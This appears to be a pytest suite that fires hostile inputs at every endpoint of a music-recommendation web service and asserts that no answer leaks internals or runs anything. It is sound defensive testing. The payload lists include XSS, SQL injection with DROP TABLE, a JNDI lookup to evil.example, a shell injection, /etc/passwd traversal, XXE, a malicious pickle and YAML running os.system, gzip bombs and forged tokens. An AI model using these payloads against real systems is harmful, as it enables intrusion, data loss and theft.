"""Whatever comes from outside, at every place where it can come in, against one real application.

Each input is answered by an error or an answer of its form, tells nothing of the inside, executes nothing in a page,
and leaves a server that answers the next. Files that are imported: `tests/importers/test_hostile_files.py`.
"""

import base64
import gzip
import json
import re
import shutil
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree as ET

import argon2
import pytest

from segue.app import open_service
from segue.web import passwords
from segue.web.application import EVERYTHING, create_app
from segue.web.auth import Keys, Scope
from segue.web.resource import KEY
from segue.web.service import Backend
from segue.web.sessions import begin

ROCK, AT = "segue:track:t:a0t3", 1_790_000_000_000
TEXTS = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "single quote": "' autofocus onfocus=alert(1) x='",
    "script address": "javascript:alert(document.domain)",
    "svg": "<svg/onload=alert(1)//",
    "end of a comment": "--><!--<iframe src=//evil.example>",
    "end of json": "</script><script>alert(1)",
    "sql": "' OR '1'='1'; DROP TABLE listeners;--",
    "sql union": "1 UNION SELECT sha256 FROM keys--",
    "sql like": "%_%' ESCAPE '",
    "template": "{{7*7}}{% import os %}${7*7}#{7*7}",
    "format": "%s%n%x{0.__class__.__mro__}",
    "lookup": "${jndi:ldap://evil.example/x}",
    "shell": "$(touch /tmp/segue-pwned);`id`|id&&id",
    "path": "../../../../../../etc/passwd",
    "path encoded": "..%2f..%2f..%5c..%5ckeys.json",
    "path of windows": "..\\..\\keys.secret",
    "path absolute": "/etc/passwd",
    "file address": "file:///etc/passwd",
    "nul": "keys.json\x00.png",
    "new lines": "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "line separators": "a\u2028b\u2029c\x85d",
    "spreadsheet": "=HYPERLINK(\"http://evil.example\";\"x\")",
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "cdata": "]]><x>",
    "right to left": "\u202egnp.exe\u2066",
    "zero width": "a\u200b\u200d\ufeffb",
    "combining": "Z" + "\u0351\u0363\u035b" * 60,
    "astral": "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 20,
    "one letter three ways": "\u212b\u00c5A\u030a\ufb03\u2460",
    "not utf-8": "\udcff\udcfe\udc80",
    "lone surrogate": "\ud800",
    "noncharacter": "\uffff\ufdd0\U0010ffff",
    "control": "".join(map(chr, range(1, 32))) + "\x7f",
    "number": "9" * 400,
    "not a number": "NaN",
    "json": '{"$gt": "", "__proto__": {"admin": true}}',
    "regular expression": "(a+)+$" + "a" * 60 + "!",
    "long": "\u00e4" * 9_000,
    "blank": " \t ",
    "empty": "",
}  # fmt: skip
INSIDE = re.compile(
    r"Traceback|\bFile \"|site-packages|/src/segue|sqlite3?\.|OperationalError|\$argon2|"
    r"root:[x*]:0:|object at 0x|msgspec\.|starlette\.|NoneType|__class__ of",
)


def pct(text: str) -> str:
    return quote(
        text.encode("utf-8", "surrogateescape") if "\udcff" in text else text.encode("utf-8", "surrogatepass"), safe=""
    )


@dataclass
class Case:
    """One request."""

    method: str
    path: str
    options: dict[str, Any] = field(default_factory=dict)


def query(path: str, name: str, /, **more: str) -> Any:
    rest = "".join(f"&{k}={pct(v)}" for k, v in more.items())
    return lambda text: Case("GET", f"{path}?{name}={pct(text)}{rest}")


def within(before: str, after: str = "", method: str = "GET") -> Any:
    return lambda text: Case(method, before + pct(text) + after)


def body(path: str, make: Any, **headers: str) -> Any:
    """JSON that holds the text; what no JSON can hold goes in as an escape."""
    return lambda text: Case("POST", path, {"content": json.dumps(make(text)).encode(), "headers": headers})


def form(path: str, name: str, headers: dict[str, str] | None = None, /, **more: str) -> Any:
    def make(text: str) -> Case:
        content = "&".join(f"{k}={pct(v)}" for k, v in {name: text, **more}.items())
        kind = {"content-type": "application/x-www-form-urlencoded"} | (headers or {})
        return Case("POST", path, {"content": content.encode(), "headers": kind})

    return make


def header(path: str, name: str, before: str = "") -> Any:
    def make(text: str) -> Case:
        value = before.encode() + text.encode("utf-8", "surrogatepass")
        return Case("GET", path, {"headers": [(name.encode(), value)]})

    return make


def event(**changed: Any) -> dict[str, Any]:
    return {"type": "play", "id": "e", "listener": "L0", "at": AT, "item": ROCK, "ms_played": 1} | changed


OWN = {"origin": "http://localhost:8800"}
LISTEN = {"artist_name": "A", "track_name": "B"}
PLACES = {
    "home: listener": query("/v1/home", "listener"),
    "home: zone": query("/v1/home", "zone", listener="L0"),
    "home: exclude": query("/v1/home", "exclude", listener="L0"),
    "home: activity": query("/v1/home", "activity", listener="L0"),
    "home: unknown parameter": lambda text: Case("GET", f"/v1/home?listener=L0&{pct(text)}=1"),
    "recommendations: words": query("/v1/recommendations", "words", listener="L0"),
    "recommendations: seed": query("/v1/recommendations", "seed", listener="L0"),
    "recommendations: n": query("/v1/recommendations", "n", listener="L0"),
    "items: q": query("/v1/items", "q"),
    "items: uri": within("/v1/items/"),
    "items: clip": within("/v1/items/", "/clip"),
    "items: about": within("/v1/items/", "/about"),
    "search: q": query("/v1/search", "q"),
    "search: kind": query("/v1/search", "kind", q="song"),
    "items: kind": query("/v1/items", "kind", q="song"),
    "radio: seed": query("/v1/radio", "seed"),
    "path: from": query("/v1/path", "from", to=ROCK),
    "listeners: prefix": query("/v1/listeners", "prefix"),
    "listeners: history": within("/v1/listeners/", "/history"),
    "listeners: taste": within("/v1/listeners/", "/taste"),
    "listeners: export": within("/v1/listeners/", "/export", "POST"),
    "listeners: erase": within("/v1/listeners/", "", "DELETE"),
    "playlists: name": within("/v1/playlists/", ".xspf"),
    "checks: name": within("/v1/checks/"),
    "dead letters: id": within("/v1/dead-letters/"),
    "audit: client": query("/v1/audit", "client"),
    "imports: id": within("/v1/imports/", "/quarantine"),
    "waivers: finding": within("/v1/waivers/", "?reason=x", "PUT"),
    "waivers: reason": within("/v1/waivers/a:b?reason=", "", "PUT"),
    "imports: before": query("/v1/imports", "before"),
    "releases: promote": within("/v1/releases/", "/promote", "POST"),
    "releases: expected": lambda text: Case("POST", f"/v1/releases/rollback?expected={pct(text)}"),
    "events: listener": body("/v1/events", lambda text: event(listener=text)),
    "events: id": body("/v1/events", lambda text: event(id=text)),
    "events: item": body("/v1/events", lambda text: event(item=text)),
    "events: type": body("/v1/events", lambda text: event(type=text)),
    "events: tenant": body("/v1/events", lambda text: event(tenant=text)),
    "events: field": body("/v1/events", lambda text: event() | {text: text}),
    "events: attrs": body("/v1/events", lambda text: event(id="a" + text[:50], attrs={text[:200]: text})),
    "events: client": body("/v1/events", lambda text: {"events": [event()], "client": text, "first": 1}),
    "events: client in a header": header("/v1/events", "segue-client"),
    "receipts: listener": body("/v1/receipts/verify", lambda text: {"id": text, "listener": text, "signature": text}),
    "listenbrainz: user": within("/1/user/", "/listens"),
    "listenbrainz: playlist": within("/1/playlist/"),
    "listenbrainz: track": body(
        "/1/submit-listens",
        lambda text: {
            "listen_type": "single",
            "payload": [
                {
                    "listened_at": AT // 1000,
                    "track_metadata": {
                        **LISTEN,
                        "track_name": text,
                        "release_name": text,
                        "additional_info": {text[:99]: text},
                    },
                }
            ],
        },
        authorization="Token OWN",
    ),
    "listenbrainz: token": header("/1/validate-token", "authorization", "Token "),
    "subsonic: query": query("/rest/search3", "query", apiKey="OWN", v="1.16.1", c="x"),
    "subsonic: user": query("/rest/ping", "u", p="x", c="x"),
    "subsonic: method": within("/rest/", "?apiKey=OWN"),
    "subsonic: format": query("/rest/ping", "f", apiKey="OWN"),
    "subsonic: playlist": query("/rest/createPlaylist", "name", apiKey="OWN", songId=ROCK),
    "lastfm: method": query("/2.0/", "method", api_key="x"),
    "lastfm: track": form(
        "/2.0/", "track", method="track.scrobble", artist="A", api_key="x", sk="SESSION", timestamp="1790000000"
    ),
    "lastfm: consent": query("/api/auth", "token"),
    "lastfm: name at the consent": form("/api/auth", "user", OWN, token="x", key="y"),
    "gpodder: device": within("/api/2/devices/L0/", ".json", "POST"),
    "gpodder: episodes": query("/api/2/episodes/L0.json", "podcast"),
    "pages: item": within("/item/"),
    "pages: listener": within("/listener/"),
    "pages: home": query("/", "listener"),
    "pages: after signing in": query("/signin", "next"),
    "pages: name at sign-in": form("/signin", "name", OWN, password="wrong password"),
    "pages: token of set-up": form("/setup", "token", OWN, name="ada", password="x" * 12, again="x" * 12),
    "pages: tenant that is chosen": form("/tenant", "tenant", OWN | {"cookie": "segue_session=OPERATOR"}),
    "pages: after choosing a tenant": form(
        "/tenant", "next", OWN | {"cookie": "segue_session=OPERATOR"}, tenant="default"
    ),
    "static": within("/static/"),
    "anywhere": within("/"),
    "header: authorization": header("/v1/console", "authorization", "Bearer "),
    "header: basic": lambda text: header("/api/2/devices/L0.json", "authorization", "Basic ")(
        base64.b64encode(text.encode("utf-8", "surrogatepass")).decode()
    ),
    "header: session": header("/v1/console", "cookie", "segue_session="),
    "header: tenant of the page": header("/v1/console", "segue-tenant"),
    "header: cookie of podcast apps": header("/api/2/devices/L0.json", "cookie", "sessionid="),
    "header: host": header("/v1/items?q=a", "host"),
    "header: origin": header("/v1/items?q=a", "origin"),
    "header: range": header(f"/v1/items/{ROCK}/clip", "range", "bytes="),
    "header: if-none-match": header("/v1/space", "if-none-match"),
    "header: user agent": header("/", "user-agent"),
    "header: request id": header("/", "x-request-id"),
    "header: trace": header("/", "traceparent"),
}
ASKS_NOBODY = ("header: authorization", "header: session", "listenbrainz: token", "header: basic")


@dataclass
class Door:
    """The application and what opens it."""

    client: Any
    keys: Keys
    admin: str
    own: str  # of L0
    session: str  # of Last.fm, for L0
    operator: str  # session of one who may see two tenants
    folder: str
    secrets: tuple[str, ...]

    def ask(self, case: Case) -> Any:
        options = dict(case.options)
        headers = options.pop("headers", {})
        path = case.path.replace("OWN", self.own).replace("SESSION", self.session)
        if isinstance(headers, dict):
            headers = {k: v.replace("OWN", self.own).replace("OPERATOR", self.operator) for k, v in headers.items()}
            headers.setdefault("authorization", f"Bearer {self.admin}")
        elif headers[0][0] == b"segue-tenant":  # counts for sessions alone
            headers = [*headers, (b"cookie", f"segue_session={self.operator}".encode())]
        elif not any(k in (b"authorization", b"cookie") for k, _ in headers):
            headers = [*headers, (b"authorization", f"Bearer {self.admin}".encode())]
        if isinstance(options.get("content"), bytes):
            options["content"] = options["content"].replace(b"SESSION", self.session.encode())
        return self.client(case.method, path, headers=headers, **options)


@pytest.fixture(scope="module")
def door(planted, tmp_path_factory, new_client):
    folder = tmp_path_factory.mktemp("hostile") / "ws"
    shutil.copytree(planted, folder)
    keys = Keys(folder, "default")
    admin, _ = keys.create((Scope.ADMIN,))
    own, key = keys.create((Scope.LISTENER,), listener="L0", digest=True)
    few = argon2.PasswordHasher(1, 8, 1)  # what a hash costs is not asked here
    with pytest.MonkeyPatch.context() as patched, open_service(folder) as service:
        patched.setattr(argon2, "PasswordHasher", lambda: few)
        patched.setattr(passwords, "NOBODY", few.hash("nobody"))
        client = new_client(
            create_app(Backend(lambda: service, reports=lambda: folder / "checks", folder=folder), keys)
        )
        client.app.state.rate.limit = 1_000_000
        keys.operators.add("ada", "correct horse battery", ["default", "other"])
        operator = keys.operators.new_session("ada")
        secrets = (admin, own, key.sha256, keys.secret().hex(), operator)
        yield Door(client, keys, admin, own, begin(keys, key.caller(), "L0"), operator, str(folder), secrets)
        client.close()


class Page(HTMLParser):
    """What a browser would run."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.runs: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = {k: v or "" for k, v in attrs}
        self.runs += [f"{tag} {k}={v}" for k, v in said.items() if k.startswith("on") or k == "style"]
        addresses = [v.strip().lower() for k, v in said.items() if k in ("href", "src", "action", "formaction")]
        self.runs += [f"{tag} {a}" for a in addresses if not a.startswith(("/", "#", "?")) or a.startswith("//")]
        if tag in ("iframe", "object", "embed", "base", "meta") and "http-equiv" in said:
            self.runs.append(tag)
        if tag == "script" and not said.get("src", "").startswith("/static/"):
            self.runs.append(tag)
        if tag in ("iframe", "object", "embed", "base"):
            self.runs.append(tag)


def harmless(door: Door, answer: Any, says_own: bool = False) -> None:
    """The answer is one of those that are meant, and says nothing of the inside."""
    text, media = answer.text, answer.headers.get("content-type", "")
    assert answer.status_code < 500 or (answer.status_code == 503 and "error" in text), (answer.status_code, text[:300])
    found = INSIDE.search(text)
    assert found is None, found
    assert door.folder not in text
    for secret in door.secrets:
        assert secret not in text
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "script-src 'self'" in answer.headers["content-security-policy"]
    assert "set-cookie" not in answer.headers or "a=b" not in answer.headers["set-cookie"]
    for name, value in answer.headers.raw:
        assert b"\n" not in name + value
        assert b"\r" not in name + value
    if "html" in media:
        assert Page(text).runs == []
    elif "json" in media:
        json.loads(answer.content)
    elif "xml" in media or "xspf" in media:
        ET.fromstring(answer.content)


@pytest.mark.parametrize(
    "page",
    ["<script>x</script>", "<script src=//evil.example></script>", "<a href=javascript:x>", "<p onclick=x>",
     "<base href=/>", "<img src=https://evil.example/x>", "<p style=x>", "<form action=//evil.example>",
     "<iframe srcdoc=x>"],
)  # fmt: skip
def test_what_would_run_is_seen(page):
    assert Page(page).runs
    assert not Page(page.replace("<", "&lt;")).runs


def test_there_are_enough_of_them():
    assert len(TEXTS) * len(PLACES) + len(BODIES) * len(TAKES_BODIES) + len(FORGED) + len(ODD) >= 300


@pytest.mark.parametrize("place", PLACES)
def test_text_at_every_place(door, place):
    for name, text in TEXTS.items():
        case = PLACES[place](text)
        try:
            answer = door.ask(case)
        except UnicodeError:
            continue  # the client itself cannot send it
        try:
            harmless(door, answer)
            if place in ASKS_NOBODY:
                assert answer.status_code in (200, 400, 401, 403), name
                assert '"valid":true' not in answer.text
        except Exception as e:
            raise AssertionError(f"{place}, {name}: {case.method} {case.path[:200]}: {e}") from e
    assert door.client.get("/api/health/ready").status_code == 200


# --- bodies ---------------------------------------------------------------------------------------------------------

LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9))
    + b"]><l>&j;</l>"
)
BODIES = {
    "nothing": b"",
    "deep list": b"[" * 100_000,
    "deep list that ends": b"[" * 50_000 + b"]" * 50_000,
    "deep object": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "deep attrs": json.dumps(event()).encode()[:-1] + b',"attrs":{"a":' + b"[" * 5_000 + b"]" * 5_000 + b"}}",
    "many events": b"[" + b",".join([json.dumps(event()).encode()] * 1_001) + b"]",
    "a long text": json.dumps(event(id="x" * 2_000_000)).encode(),
    "a long key": b'{"' + b"k" * 1_000_000 + b'": 1}',
    "many keys": json.dumps({f"k{i}": i for i in range(50_000)}).encode(),
    "a large number": b'{"type": "play", "at": ' + b"9" * 100_000 + b"}",
    "a large exponent": json.dumps(event()).replace(str(AT), "1e999999").encode(),
    "no number": json.dumps(event()).replace(str(AT), "NaN").encode(),
    "twice": b'{"type": "play", "listener": "L0", "listener": "L1", "id": "x", "at": 1, "item": "x"}',
    "null": b"null",
    "a list of nulls": b"[null,null]",
    "mixed": b'[1, "a", {}, [], true]',
    "cut": json.dumps([event()]).encode()[:-3],
    "two values": b"{} {}",
    "nul": b'{"a\x00": 1}',
    "not utf-8": b'{"a": "\xff\xfe"}',
    "utf-16": json.dumps(event()).encode("utf-16"),
    "utf-7": b'+AHsAfQ-',
    "mark": b"\xef\xbb\xbf" + json.dumps(event()).encode(),
    "surrogate": b'{"listener": "\\ud800", "type": "\\udc00"}',
    "prototype": b'{"__proto__": {"scopes": ["admin"]}, "constructor": 1}',
    "xml entities": LAUGHS,
    "xml outside": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "pickle": b"\x80\x03cposix\nsystem\nX\x02\x00\x00\x00id\x85R.",
    "yaml": b"!!python/object/apply:os.system ['id']",
    "zeros": bytes(100_000),
    "a form": b"a=" + b"&a=".join([b"1"] * 20_000),
    "gzip that is none": b"GZIP:nonsense",
    "gzip bomb": b"GZIP" + gzip.compress(bytes(50_000_000), 9),
    "gzip in gzip": b"GZIP" + gzip.compress(gzip.compress(bytes(5_000_000))),
    "many gzips": b"GZIP" + gzip.compress(b"") * 5_000,
    "gzip cut": b"GZIP" + gzip.compress(json.dumps(event()).encode())[:-5],
    "brotli": b"BR\x8b\x02\x80hello\x03",
}  # fmt: skip
TAKES_BODIES = (
    ("/v1/events", "application/json"), ("/v1/events", "application/x-ndjson"),
    ("/v1/events", "application/cloudevents+json"), ("/v1/events", "application/cloudevents-batch+json"),
    ("/v1/events", "text/xml"), ("/v1/receipts/verify", "application/json"),
    ("/v1/dead-letters/1/replay", "application/json"), ("/1/submit-listens", "application/json"),
    ("/1/feedback/recording-feedback", "application/json"), ("/rest/ping", "application/x-www-form-urlencoded"),
    ("/2.0/", "application/x-www-form-urlencoded"), ("/api/auth", "application/x-www-form-urlencoded"),
    ("/api/2/episodes/L0.json", "application/json"), ("/api/2/subscriptions/L0/phone.json", "application/json"),
    ("/signin", "application/x-www-form-urlencoded"), ("/setup", "multipart/form-data; boundary=x"),
)  # fmt: skip


@pytest.mark.parametrize(("path", "media"), TAKES_BODIES)
def test_bodies(door, path, media):
    for name, content in BODIES.items():
        headers = {"content-type": media} | OWN
        if path.startswith("/1/"):
            headers["authorization"] = f"Token {door.own}"
        elif path.startswith("/api/2"):
            headers["authorization"] = "Basic " + base64.b64encode(f"L0:{door.own}".encode()).decode()
        for start, encoding in ((b"GZIP", "gzip"), (b"BR", "br")):
            if content.startswith(start):
                content, headers["content-encoding"] = content[len(start) :], encoding
        answer = door.ask(Case("POST", path, {"content": content, "headers": headers}))
        try:
            harmless(door, answer)
        except Exception as e:
            raise AssertionError(f"{path}, {name}: {e}") from e
    assert door.client.get("/api/health/ready").status_code == 200


# --- tokens ---------------------------------------------------------------------------------------------------------


def signed(listener: str, key: str, mac: str = "0" * 64) -> str:
    return base64.urlsafe_b64encode(json.dumps([listener, key]).encode()).decode() + f".{mac}"


FORGED = {
    "none": "",
    "unknown": "segue_00000000_" + "A" * 43,
    "id alone": "segue_ID_",
    "id and nothing right": "segue_ID_" + "A" * 43,
    "cut": "OWN-1",
    "longer": "OWNx",
    "upper case": "OWN^",
    "hash": "HASH",
    "id": "ID",
    "unsigned jwt": "eyJhbGciOiJub25lIn0.eyJzY29wZXMiOlsiYWRtaW4iXX0.",
    "session for everybody": signed("", ""),
    "session for L1": signed("L1", "ID"),
    "session with the mac of another": "MOVED",
    "session cut": "SESSION-1",
    "revoked": "REVOKED",
    "another tenant's": "ELSEWHERE",
    "null": "null",
    "star": "*",
    "sql": "' OR 1=1--",
    "nul": "OWN\x00",
    "very long": "segue_" + "x" * 5_000,
}  # fmt: skip


@pytest.fixture(scope="module")
def forged(door):
    key = door.keys.find(door.own)
    revoked, gone = door.keys.create((Scope.ADMIN,))
    door.keys.revoke(gone.id)
    elsewhere, _ = Keys(door.keys.path.parent, "elsewhere").create((Scope.ADMIN, Scope.READ))
    _, _, mac = door.session.rpartition(".")
    told = {
        "OWN-1": door.own[:-1], "OWN^": door.own.upper(), "OWNx": door.own + "x", "HASH": key.sha256,
        "OWN\x00": door.own + "\x00",
        "ID": key.id, "REVOKED": revoked, "ELSEWHERE": elsewhere, "SESSION-1": door.session[:-1],
        "MOVED": signed("L1", key.id, mac),
    }  # fmt: skip
    return {name: told.get(text, text.replace("ID", key.id)) for name, text in FORGED.items()}


@pytest.mark.parametrize("name", FORGED)
def test_forged_and_replayed_tokens_open_nothing(door, forged, name):
    text = forged[name]
    plain = text.encode("utf-8", "replace")
    for resource in (r for r in EVERYTHING if r.scheme == KEY and r.scope is not None):
        path = re.sub(r"{\w+}", "1", resource.path)
        for headers in ([(b"authorization", b"Bearer " + plain)], [(b"cookie", b"segue_session=" + plain)]):
            answer = door.ask(Case(resource.method, path, {"headers": headers}))
            assert answer.status_code == 401, (resource.method, path, answer.text)
            harmless(door, answer)
    basic = b"Basic " + base64.b64encode(b"L0:" + plain)
    for path, headers in (
        ("/1/user/L0/listens", [(b"authorization", b"Token " + plain)]),
        ("/api/2/devices/L0.json", [(b"authorization", basic)]),
        ("/api/2/devices/L0.json", [(b"authorization", b""), (b"cookie", b"sessionid=" + plain)]),
        (f"/rest/getUser?f=json&apiKey={pct(text)}", [(b"authorization", b"")]),
        (f"/rest/getUser?f=json&u=L0&p={pct(text)}", [(b"authorization", b"")]),
        (f"/rest/getUser?f=json&u=L0&t={pct(text)}&s=x", [(b"authorization", b"")]),
        (f"/2.0/?format=json&api_key=x&method=user.getRecentTracks&user=L0&sk={pct(text)}", [(b"authorization", b"")]),
    ):
        answer = door.ask(Case("GET", path, {"headers": headers}))
        refused = answer.status_code in (400, 401, 403) or '"status":"failed"' in answer.text
        assert refused, (path, answer.text)
        harmless(door, answer)


def test_a_listeners_own_token_reads_nobody_else_whatever_the_protocol(door):
    """L0's key, asked for L1: every form of the question is refused, or answered as if there were no such thing."""
    bearer, token = f"Bearer {door.own}", f"Token {door.own}"
    basic = "Basic " + base64.b64encode(f"L1:{door.own}".encode()).decode()
    for method, path, authorization in (
        ("GET", "/v1/home?listener=L1", bearer), ("GET", "/v1/recommendations?listener=L1", bearer),
        ("GET", "/v1/radio?words=x&listener=L1", bearer), ("GET", "/v1/listeners/L1/history", bearer),
        ("GET", "/v1/listeners/L1/taste", bearer),
        ("GET", "/v1/listeners/L0%2F..%2FL1/history", bearer), ("GET", "/v1/playlists/lately.xspf?listener=L1", bearer),
        ("GET", "/v1/playlists/segue:playlist:t:p0.xspf?listener=L0", bearer), ("GET", "/v1/listeners", bearer),
        ("POST", "/v1/listeners/L1/export", bearer), ("DELETE", "/v1/listeners/L1", bearer),
        ("DELETE", "/v1/listeners/L0%00", bearer), ("GET", "/v1/console", bearer), ("GET", "/metrics", bearer),
        ("GET", "/v1/overview", bearer), ("POST", "/v1/releases/rollback", bearer),
        ("GET", "/1/user/L1/listens", token), ("GET", "/1/user/L1/listen-count", token),
        ("GET", "/1/user/L1/playing-now", token), ("GET", "/1/cf/recommendation/user/L1/recording", token),
        ("GET", "/1/feedback/user/L1/get-feedback", token), ("GET", "/1/user/L1/playlists/createdfor", token),
        ("GET", "/api/2/devices/L1.json", basic), ("GET", "/api/2/episodes/L1.json", basic),
        ("POST", "/api/2/episodes/L1.json", basic),
        ("GET", f"/rest/getUser?f=json&u=L1&p={door.own}", ""),
        ("GET", f"/rest/getUser?f=json&username=L1&apiKey={door.own}", ""),
        ("GET", f"/2.0/?format=json&api_key=x&method=user.getLovedTracks&user=L1&sk={door.session}", ""),
    ):  # fmt: skip
        answer = door.ask(Case(method, path, {"headers": {"authorization": authorization}}))
        refused = answer.status_code in (400, 401, 403, 404) or '"status":"failed"' in answer.text
        assert refused, (method, path, answer.status_code, answer.text[:200])
        harmless(door, answer)
    kept = door.ask(Case("GET", "/v1/home?listener=L1"))
    assert kept.json().get("known", True), "L1 is still there"


# --- what is odd about a request ------------------------------------------------------------------------------------

ODD = {
    "trace": ("TRACE", "/"), "connect": ("CONNECT", "/"), "made up": ("EVIL", "/v1/home"), "webdav": ("PROPFIND", "/"),
    "put": ("PUT", "/v1/events"), "delete a page": ("DELETE", "/console"), "patch": ("PATCH", "/v1/listeners/L0"),
    "two slashes": ("GET", "//evil.example/v1/home"), "dots": ("GET", "/static/../keys.json"),
    "dots encoded": ("GET", "/static/%2e%2e/%2e%2e/auth.py"), "dots twice": ("GET", "/static/%252e%252e/auth.py"),
    "back slashes": ("GET", "/static/..%5c..%5cauth.py"), "nul": ("GET", "/static/base.css%00.html"),
    "too long a letter": ("GET", "/static/%c0%ae%c0%ae/auth.py"), "absolute": ("GET", "/static//etc/passwd"),
    "parameters": ("GET", "/console;x=1"), "half a percent": ("GET", "/v1/items?q=%"),
    "bad percent": ("GET", "/v1/items?q=%zz"),
    "many parameters": ("GET", "/v1/items?" + "&".join(f"a{i}=1" for i in range(1_500))),
    "one parameter often": ("GET", "/v1/home?listener=L0&" + "exclude=x&" * 1_000),
    "a long path": ("GET", "/v1/items/" + "a" * 20_000), "a long query": ("GET", "/v1/items?q=" + "a" * 20_000),
    "a trailing slash": ("GET", "/v1/home/"), "another case": ("GET", "/V1/Home?listener=L0"),
    "a dot": ("GET", "/v1/./home"), "files of the system": ("GET", "/.git/config"), "environment": ("GET", "/.env"),
    "a framework's": ("GET", "/actuator/env"), "php": ("POST", "/index.php?cmd=id"),
}  # fmt: skip


@pytest.mark.parametrize("name", ODD)
def test_odd_requests(door, name):
    method, path = ODD[name]
    answer = door.ask(Case(method, path))
    harmless(door, answer)
    assert answer.status_code in (200, 204, 304, 400, 401, 404, 405, 414, 421), (answer.status_code, answer.text[:200])
    assert "root:" not in answer.text
    assert "import annotations" not in answer.text


def test_nothing_was_executed():
    from pathlib import Path

    assert not Path("/tmp/segue-pwned").exists()
